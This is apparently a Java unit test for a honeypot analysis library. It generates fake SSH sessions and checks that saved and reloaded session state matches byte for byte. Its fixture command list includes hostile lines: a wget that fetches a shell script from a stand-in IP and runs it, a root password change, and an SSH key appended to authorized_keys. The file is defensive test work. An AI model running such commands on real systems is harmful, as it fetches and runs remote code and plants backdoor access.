package io.github.cowriekit.analysis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import io.github.cowriekit.model.Client;
import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.KeyExchange;
import io.github.cowriekit.model.Session;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.util.DefaultLocale;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Saves and loads crowds of generated sessions; a crowd must not notice. */
class CrowdStateTest {
    private static final int SESSIONS = 600;
    private static final String[] LINES = {
        "uname -a",
        "id",
        "exot",
        "sl -la",
        "cd /tmp",
        "touch notes",
        "cat notes",
        "mkdir -p /opt/.x",
        "ls /opt/.x",
        "wget http://192.0.2.7/a/x.sh -O /var/tmp/.x.sh",
        "sh /var/tmp/.x.sh",
        "echo \"root:aeUVqyLmI0Sy\"|chpasswd",
        "echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDExampleExampleExample00 me >> ~/.ssh/authorized_keys",
        "exit"
    };

    @TempDir
    private Path folder;

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4})
    void loadsAndSavesTheSameBytes(long seed) throws IOException {
        Crowd crowd = Crowd.create();
        Analysis analysis = Analysis.builder().memory(crowd).build();
        generated(seed).forEach(analysis::assess);
        crowd.save(folder.resolve("saved"));

        Crowd.load(folder.resolve("saved")).save(folder.resolve("again"));

        assertThat(folder.resolve("again")).hasSameBinaryContentAs(folder.resolve("saved"));
    }

    @ParameterizedTest
    @ValueSource(longs = {5, 6, 7, 8})
    void goesOnAfterLoadingAsIfItHadNotBeenSaved(long seed) throws IOException {
        Crowd through = Crowd.create();
        Analysis analysis = Analysis.builder().memory(through).build();
        Crowd kept = Crowd.create();
        Analysis saved = Analysis.builder().memory(kept).build();
        Random random = new Random(seed);
        for (Session session : generated(seed)) {
            assertThat(saved.assess(session)).isEqualTo(analysis.assess(session));
            if (random.nextInt(100) == 0) {
                kept.save(folder.resolve("kept"));
                kept = Crowd.load(folder.resolve("kept"));
                saved = Analysis.builder().memory(kept).build();
            }
        }
        through.save(folder.resolve("through"));
        kept.save(folder.resolve("kept"));

        assertThat(folder.resolve("kept")).hasSameBinaryContentAs(folder.resolve("through"));
    }

    @Test
    @DefaultLocale(language = "ar", country = "EG")
    void savesAndLoadsWhereDigitsAreOthers() {
        Crowd crowd = Crowd.create();
        SessionStatistics statistics = SessionStatistics.create();
        Analysis analysis = Analysis.builder().memory(crowd).build();
        generated(9).forEach(session -> {
            analysis.assess(session);
            statistics.add(session);
        });
        crowd.save(folder.resolve("crowd"));
        statistics.save(folder.resolve("statistics"));

        assertThatCode(() -> Crowd.load(folder.resolve("crowd"))).doesNotThrowAnyException();
        assertThat(SessionStatistics.load(folder.resolve("statistics")).total()).isEqualTo(statistics.total());
    }

    /** Sessions of a few clients and scripts that repeat, and of some that do not. */
    private static List<Session> generated(long seed) {
        Random random = new Random(seed);
        List<Session> sessions = new ArrayList<>();
        Instant start = Sessions.START;
        for (int i = 0; i < SESSIONS; i++) {
            start = start.plusSeconds(random.nextInt(3_000));
            Random script = new Random(random.nextInt(40));
            List<Command> commands = new ArrayList<>();
            for (int line = script.nextInt(8); line > 0; line--) {
                commands.add(new Command(
                        start.plusMillis(random.nextInt(90_000)), LINES[script.nextInt(LINES.length)], false, null));
            }
            if (random.nextInt(10) == 0) {
                commands.add(new Command(start, "touch /opt/" + Long.toString(random.nextLong(), 36), false, null));
            }
            sessions.add(Sessions.ran()
                    .sensor("hp0" + random.nextInt(2))
                    .source(new Endpoint("203.0.113." + random.nextInt(30), 40_000))
                    .startedAt(start)
                    .logins(List.of(Sessions.login("root", "p" + random.nextInt(200), true)))
                    .client(client(random.nextInt(3)))
                    .commands(commands)
                    .build());
        }
        return sessions;
    }

    private static Client client(int number) {
        String hassh = String.valueOf(number).repeat(32);
        return new Client("SSH-2.0-example", KeyExchange.builder().hassh(hassh).build(), null, List.of());
    }
}
